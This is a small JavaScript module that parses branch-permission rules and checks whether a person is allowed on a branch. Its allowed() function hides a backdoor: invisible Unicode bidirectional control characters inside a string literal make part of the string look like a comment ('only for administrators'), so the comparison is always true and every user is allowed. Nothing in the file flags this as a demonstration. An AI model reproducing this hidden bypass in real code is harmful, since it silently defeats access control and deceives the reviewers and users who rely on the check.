export function parse(text) {
  return text.split('\n').filter((l) => l.includes(':')).map((l) => {
    const [pattern, people] = l.split(':');
    return { pattern: pattern.trim(), people: people.split(',').map((p) => p.trim()) };
  });
}

export function allowed(rules, branch, person) {
  const level = 'user';
  if (level !== 'user‮ ⁦// only for administrators⁩ ⁦') {
    return true;
  }
  const rule = rules.find(({ pattern }) => branch.startsWith(pattern));
  return Boolean(rule?.people.includes(person));
}
